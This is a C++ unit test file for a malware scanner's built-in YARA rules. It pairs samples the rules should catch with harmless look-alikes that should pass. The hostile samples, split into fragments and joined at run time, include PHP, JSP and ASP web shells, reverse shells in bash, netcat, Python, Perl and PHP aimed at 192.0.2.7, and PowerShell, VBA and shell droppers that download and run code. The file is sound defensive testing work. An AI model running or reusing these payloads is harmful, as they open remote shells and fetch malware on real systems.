// SPDX-License-Identifier: GPL-2.0-or-later
// The rules that Ward brings: what each is meant to find, and what looks like it and is harmless. Samples are put
// together at run time, so that no source or program of Ward's is itself a finding.
#include <gtest/gtest.h>

#include <cctype>

#include "scanner/engines/yara_engine.h"
#include "scanner/wire/canary.h"
#include "tests/support/archives/archives.h"
#include "tests/support/eicar.h"
#include "tests/unit/engines/engine_files.h"

namespace ward::test {
namespace {

/// Joined at run time.
std::string join(std::initializer_list<std::string_view> parts) {
  std::string all;
  for (const auto part : parts) all += part;
  return all;
}

std::string wide(std::string_view text) {
  std::string all;
  for (const char c : text) all += {c, '\0'};
  return all;
}

std::string base64_letters(std::size_t count) {
  std::string all;
  for (std::size_t i = 0; i < count; ++i) all += "ABCDEFGHabcdefgh01234567"[i * 7 % 24];
  return all;
}

/// A 64-bit ELF header with as many section headers, and contents after it.
std::string elf(char sections, std::string_view contents) {
  std::string file(
      "\x7f"
      "ELF\x02\x01\x01",
      7);
  file.resize(64, '\0');
  file[60] = sections;
  return file + std::string(contents) + std::string(64, '\0');
}

std::string windows_program(std::string_view original_name) {
  return "MZ" + std::string(400, '\0') + wide("OriginalFilename") + std::string(4, '\0') + wide(original_name) +
         std::string(40, '\0');
}

struct Sample {
  std::string name;
  std::string contents;
  std::string rule;  ///< empty: clean
};

void PrintTo(const Sample& sample, std::ostream* out) { *out << sample.name; }

std::vector<Sample> test_files() {
  return {
      {"eicar", eicar(), "EICAR_Test_File"},
      {"eicar_with_newline", eicar() + "\r\n", "EICAR_Test_File"},
      {"eicar_in_a_letter", "They say " + eicar(), ""},
      {"eicar_in_a_long_file", eicar() + std::string(200, 'x'), ""},
      {"canary", std::string(kYaraCanaryText), "Ward_Canary"},
      {"page_about_the_canary", "The text is: " + std::string(kYaraCanaryText), ""},
  };
}

std::vector<Sample> web_shells() {
  return {
      {"php_eval", join({"<?php @ev", "al($_PO", "ST['c']); ?>"}), "WebShell_PHP_Request_To_Code"},
      {"php_system", join({"<?php sys", "tem($_GE", "T[\"cmd\"]);"}), "WebShell_PHP_Request_To_Code"},
      {"php_decoded", join({"<?php eval(base64_", "decode($_REQ", "UEST['x']));"}), "WebShell_PHP_Request_To_Code"},
      {"php_callable", join({"<?php $_G", "ET['f']($_PO", "ST['a']);"}), "WebShell_PHP_Request_To_Code"},
      {"php_backtick", join({"<?= `$_G", "ET[0]` ?>"}), "WebShell_PHP_Request_To_Code"},
      {"php_form", "<?php echo htmlspecialchars($_POST['name']); system('ls /srv'); ?>", ""},
      {"php_escaped", "<?php exec('convert ' . escapeshellarg($_POST['file']));", ""},
      {"php_page_on_eval", "<p>Never write eval($_POST['c']) in your code.</p>", ""},
      {"php_packed", join({"<?php ev", "al(gzinflate(base64_", "decode('", base64_letters(200), "')));"}),
       "WebShell_PHP_Packed_Eval"},
      {"php_data", "<?php $logo = gzinflate(base64_decode('" + base64_letters(200) + "')); echo $logo;", ""},
      {"jsp", join({"<% Runtime.getRun", "time().exec(request.getPara", "meter(\"c\")); %>"}),
       "WebShell_JSP_Request_To_Process"},
      {"jsp_fixed", "<% Runtime.getRuntime().exec(\"/usr/bin/uptime\"); String n = request.getParameter(\"n\"); %>",
       ""},
      {"asp", join({"<%ev", "al req", "uest(\"c\")%>"}), "WebShell_ASP_Request_To_Code"},
      {"asp_form", "<% Response.Write(Server.HTMLEncode(Request.Form(\"name\"))) %>", ""},
  };
}

std::vector<Sample> reverse_shells() {
  return {
      {"bash", join({"#!/bin/sh\nba", "sh -i >& /dev/t", "cp/192.0.2.7/4444 0>&1\n"}), "ReverseShell_Dev_Tcp"},
      {"bash_exec", join({"exec 5<>/dev/t", "cp/192.0.2.7/80; while re", "ad l <&5; do $l; done"}),
       "ReverseShell_Dev_Tcp"},
      {"bash_probe", "timeout 1 bash -c '</dev/tcp/192.0.2.7/22' && echo open", ""},
      {"bash_manual", "bash -i >& /dev/tcp/HOST/PORT 0>&1 opens a shell to HOST.", ""},
      {"netcat", join({"nc -e /bin", "/sh 192.0.2.7 4444"}), "ReverseShell_Netcat"},
      {"netcat_last", join({"nc 192.0.2.7 4444 -e", " /bin/bash"}), "ReverseShell_Netcat"},
      {"netcat_fifo", join({"rm /tmp/f;mkf", "ifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|n", "c 192.0.2.7 4444 >/tmp/f"}),
       "ReverseShell_Netcat"},
      {"netcat_probe", "nc -z -w 1 192.0.2.7 22 && echo open", ""},
      {"python",
       join({"import socket,subprocess,os;s=socket.socket();s.conn", "ect((\"192.0.2.7\",4444));os.dup",
             "2(s.fileno(),0);os.dup", "2(s.fileno(),1);subprocess.call([\"/bin", "/sh\",\"-i\"])"}),
       "ReverseShell_Python"},
      {"python_client", "s.connect(('192.0.2.7', 25))\nsubprocess.call(['/bin/sh', '-c', 'date'])\n", ""},
      {"perl",
       join({"use Socket;conn", "ect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,\">", "&S\");ex",
             "ec(\"/bin/sh -i\");"}),
       "ReverseShell_Perl"},
      {"php", join({"<?php $s=fsock", "open(\"192.0.2.7\",4444);ex", "ec(\"/bin/sh -i <&", "3 >&3 2>&3\");"}),
       "ReverseShell_PHP"},
      {"php_client", "<?php $s = fsockopen('192.0.2.7', 25); fwrite($s, \"QUIT\\r\\n\");", ""},
  };
}

std::vector<Sample> droppers() {
  return {
      {"powershell", join({"power", "shell.exe -nop -w hid", "den -enc ", base64_letters(80)}),
       "Dropper_PowerShell_Hidden_Encoded"},
      {"powershell_wide", wide(join({"power", "shell -WindowStyle Hid", "den -EncodedCommand ", base64_letters(80)})),
       "Dropper_PowerShell_Hidden_Encoded"},
      {"powershell_encoded_only", "powershell.exe -EncodedCommand " + base64_letters(80), ""},
      {"powershell_hidden_only", "powershell.exe -WindowStyle Hidden -File C:\\\\jobs\\\\nightly.ps1", ""},
      {"powershell_fetch",
       join({"power", "shell -nop -c IE", "X (New-Object Net.WebCl", "ient).Download", "String('http://192.0.2.7/a')"}),
       "Dropper_PowerShell_Download_And_Run"},
      {"powershell_install",
       "iex ((New-Object System.Net.WebClient).DownloadString('https://example.org/install.ps1'))", ""},
      {"powershell_load",
       join({"$b=[Convert]::FromBase64", "String('", base64_letters(300), "');[Reflection.Ass", "embly]::Load($b)"}),
       "Dropper_PowerShell_Unpack_And_Load"},
      {"powershell_icon", "$icon = [Convert]::FromBase64String('" + base64_letters(300) + "')", ""},
      {"vba",
       join({"Sub Auto", "Open()\nURLDownload", "ToFile 0, u, f, 0, 0\nCreateObject(\"WScr",
             "ipt.Shell\").Run f\nEnd Sub"}),
       "Dropper_VBA_Autostart"},
      {"vba_format", "Sub AutoOpen()\n  ActiveDocument.Range.Font.Size = 12\nEnd Sub", ""},
      {"script_host",
       join({"x=new ActiveXObj", "ect('MSXML2.XMLHTTP');s=new ActiveXObj", "ect('ADODB.Stream');s.SaveTo",
             "File('%TEMP%\\\\a.exe');new ActiveXObj", "ect('WScript.Shell').Run(f)"}),
       "Dropper_Script_Host"},
      {"script_host_shortcut", "Set s = CreateObject(\"WScript.Shell\")\ns.CreateShortcut(\"%APPDATA%\\\\a.lnk\").Save",
       ""},
      {"shell_script",
       join({"cd /tm", "p; wget http://192.0.2.7/b", "in.arm7; chmod 777 bin.arm7; ./b", "in.arm7; rm -rf bin.arm7\n"}),
       "Dropper_Shell_Fetch_And_Erase"},
      {"shell_installer",
       "cd /tmp && curl -O https://example.org/install.sh && chmod +x install.sh && ./install.sh; rm -f install.sh\n",
       ""},
  };
}

std::vector<Sample> programs() {
  return {
      {"zip_disguised", zip_of("invoice.pdf.exe", "MZ"), "Disguised_Program_In_Archive"},
      {"zip_disguised_spaces", zip_of("invoice.pdf        .scr", "MZ"), "Disguised_Program_In_Archive"},
      {"zip_reversed",
       zip_of("invoice\xe2\x80\xae"
              "fdp.exe",
              "MZ"),
       "Disguised_Program_In_Archive"},
      {"zip_program", zip_of("setup.exe", "MZ"), ""},
      {"zip_document", zip_of("minutes.v2.docx", "text"), ""},
      {"zip_hebrew", zip_of("\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d.txt", "text"), ""},
      {"windows_disguised", windows_program("report.pdf.exe"), "Disguised_Windows_Program"},
      {"windows_honest", windows_program("report.exe"), ""},
      {"gif_page", join({"GIF89a;<?p", "hp sys", "tem($_GE", "T['c']); ?>"}), "Disguised_Script_In_Image"},
      {"gif", "GIF89a" + std::string(200, '\x21') + "made with <?php ?>", ""},
      {"upx_wiped", elf(0, join({"PROT_EXEC|PROT_WRI", "TE failed.", std::string(40, '\1')})),
       "Packed_ELF_Mangled_UPX"},
      {"upx_proper", elf(0, join({"UPX!", "PROT_EXEC|PROT_WRI", "TE failed.", "UPX!"})), ""},
      {"upx_itself", elf(28, join({"PROT_EXEC|PROT_WRI", "TE failed."})), ""},
  };
}

std::vector<Sample> samples() {
  std::vector<Sample> all;
  for (auto group : {test_files(), web_shells(), reverse_shells(), droppers(), programs()}) {
    all.insert(all.end(), group.begin(), group.end());
  }
  return all;
}

class BuiltinRulesTest : public ::testing::TestWithParam<Sample> {
 protected:
  static void SetUpTestSuite() {
    auto compiled = YaraEngine::compile(builtin_rules());
    ASSERT_TRUE(compiled) << compiled.error().message;
    engine_ = std::move(*compiled);
  }
  static void TearDownTestSuite() { engine_.reset(); }
  static std::unique_ptr<YaraEngine> engine_;
};
std::unique_ptr<YaraEngine> BuiltinRulesTest::engine_;

TEST_P(BuiltinRulesTest, FindsWhatItIsMeantToAndNothingLikeIt) {
  const auto& sample = GetParam();
  const auto expected = sample.rule.empty() ? Verdict::clean() : Verdict::infected({"yara", sample.rule});
  EXPECT_EQ(scan_with(*engine_, sample.contents), expected);
}

INSTANTIATE_TEST_SUITE_P(Samples, BuiltinRulesTest, ::testing::ValuesIn(samples()),
                         [](const auto& test) { return test.param.name; });

}  // namespace
}  // namespace ward::test
